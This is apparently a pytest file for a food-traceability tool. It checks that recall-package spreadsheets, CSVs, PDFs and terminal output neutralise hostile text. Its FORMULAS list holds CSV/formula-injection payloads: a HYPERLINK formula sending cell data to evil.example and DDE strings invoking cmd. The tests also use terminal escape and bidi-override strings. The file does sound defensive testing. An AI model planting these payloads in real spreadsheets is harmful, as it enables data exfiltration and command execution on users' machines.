"""Hostile text through the whole recall package: nothing live in a spreadsheet, and
every writer holds what the plant holds.

Formula-like names arrive through an ordinary import (they are printable text, so the
import accepts them): every cell of every workbook is a string cell, never a formula,
and every CSV text cell that a spreadsheet would run starts with ``'`` (OWASP). Control
characters, NUL (SQLite only: PostgreSQL refuses it), bidi overrides and a lone
surrogate in the recall reason reach the writers directly: the package is written, and
every file reads back.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

from openpyxl import load_workbook
from pypdf import PdfReader

from tests.factories import PlantBuilder
from tests.reports.test_recall_package import pdf_text
from workbench.plant.lookup import find_lot
from workbench.recall.engine import recall
from workbench.reports.package import write_recall_package
from workbench.settings import default_letterhead

EXAMPLE = Path(__file__).resolve().parents[2] / "resources" / "example-bundle"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "=1+1", "＝1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")


def _hostile_bundle(tmp_path: Path) -> Path:
    bundle = tmp_path / "bundle"
    shutil.copytree(EXAMPLE, bundle)
    for name, columns in (("customers.csv", ("name", "contact", "email", "phone", "address")),
                          ("items.csv", ("name",)), ("vendors.csv", ("name", "contact"))):
        path = bundle / name
        with path.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
        for i, row in enumerate(rows):
            for j, column in enumerate(columns):
                row[column] = FORMULAS[(i + j) % len(FORMULAS)].replace("\t", "") if column != "address" \
                    else FORMULAS[i % len(FORMULAS)].replace("\t", "")
        with path.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return bundle


def _no_formula_anywhere(path: Path) -> int:
    texts = 0
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)
                    texts += 1
    return texts


def _csv_cells_are_inert(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    for c in cells:
        if c.startswith(FORMULA_START):
            assert c.lstrip("-").replace(",", "").replace(".", "").isdigit(), (path.name, c)
    return cells


def test_formula_names_are_never_live_in_the_recall_package(cli, db_url, tmp_path):
    bundle = _hostile_bundle(tmp_path)
    code, _out, err = cli("import", "--db", db_url, bundle)
    assert code == 0, err
    out = tmp_path / "recall"
    code, _out, err = cli("recall", "--db", db_url, "FL-260302-A", "--item", "FLOUR-T55", "--out", out,
                          "--reason", "=cmd|' /C calc'!A0")
    assert code == 0, err
    for book in ("contacts.xlsx", "fsma204.xlsx"):
        assert _no_formula_anywhere(out / book) > 0
    contacts = load_workbook(out / "contacts.xlsx")["Recall contacts"]
    names = {row[1].value for row in contacts.iter_rows(min_row=2)}
    assert names & {f.replace("\t", "") for f in FORMULAS}  # the text itself is kept, as text
    about = {r[0].value: r[1].value for r in load_workbook(out / "fsma204.xlsx")["About"].iter_rows()}
    assert about["Reason"] == "=cmd|' /C calc'!A0"
    for name in ("contacts.csv", "hold-list.csv", "reconciliation.csv"):
        cells = _csv_cells_are_inert(out / name)
        assert cells
    said = (out / "contacts.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in said and "'@SUM(1+9)" in said and "'-2+3" in said


def test_unsafe_characters_in_the_plant_still_give_a_whole_package(session, backend, tmp_path):
    nul = "\x00" if backend == "sqlite" else ""  # PostgreSQL text cannot hold NUL at all
    b = PlantBuilder(session)
    b.item("ALM", name=f"Almonds\x07 \x1b[31mred{nul} \u202eevil\u202c \x85next")
    b.receive("ALM", "ALM\x1b[2J-1", 100)
    b.produce("WO-1", "BAR", [("ALM", "ALM\x1b[2J-1", 50)], [("BAR\u202e-1", 50)])
    b.ship("SH-1", "CU\x1b-1", "BAR", "BAR\u202e-1", 10)
    b.ship("SH-2", f"CU{nul}\x7f-2", "BAR", "BAR\u202e-1", 10)
    b.done()
    b.customers["CU\x1b-1"].name = f"Bell\x07 Corp{nul}\x0b\x0c"
    session.flush()
    r = recall(session, [find_lot(session, "ALM\x1b[2J-1")], reason="Salmonella \udcff\x00\ud800 found")
    out = tmp_path / "package"
    files = write_recall_package(r, out, default_letterhead())
    assert {p.name for p in files} >= {"recall.json", "contacts.xlsx", "fsma204.xlsx", "summary.pdf", "letters.pdf"}
    data = json.loads((out / "recall.json").read_text(encoding="utf-8"))
    assert data["reason"] == "Salmonella \udcff\x00\ud800 found"  # JSON escapes: the same text read back
    for book in ("contacts.xlsx", "fsma204.xlsx"):
        _no_formula_anywhere(out / book)
    cells = {c.value for ws in load_workbook(out / "contacts.xlsx").worksheets for row in ws.iter_rows()
             for c in row}
    assert "Bell\\u0007 Corp" + ("\\u0000" if nul else "") + "\\u000b\\u000c" in cells
    for name in ("contacts.csv", "hold-list.csv", "reconciliation.csv"):
        text = (out / name).read_text(encoding="utf-8")
        assert "\x1b" not in text and "\x00" not in text and "\u202e" not in text
    for pdf in [out / "summary.pdf", out / "letters.pdf", *(out / "letters").iterdir()]:
        assert len(PdfReader(pdf).pages) >= 1
    assert "\\u001b" in pdf_text(out / "letters.pdf")


def test_terminal_output_escapes_control_characters_in_codes(cli, plant, db_url):
    with plant.Session.begin() as s:
        b = PlantBuilder(s)
        b.receive("ALM", "A\x1b[2J\x1b[31m-1", 100)
        b.produce("WO-1", "BAR", [("ALM", "A\x1b[2J\x1b[31m-1", 50)], [("B\u202e1", 50)])
        b.done()
    code, out, err = cli("trace", "--db", db_url, "A\x1b[2J\x1b[31m-1", "--item", "ALM")
    assert code == 0, err
    assert "\x1b" not in out and "\u202e" not in out
    assert "A\\u001b[2J\\u001b[31m-1" in out and "B\\u202e1" in out
    code, out, _ = cli("trace", "--db", db_url, "A\x1b[2J\x1b[31m-1", "--item", "ALM", "--json")
    assert code == 0 and "\x1b" not in out
    assert {n.get("lot") for n in json.loads(out)["nodes"]} >= {"A\x1b[2J\x1b[31m-1", "B\u202e1"}
    code, _out, err = cli("trace", "--db", db_url, "NO\x1b[31mPE")
    assert code == 1 and "\x1b" not in err
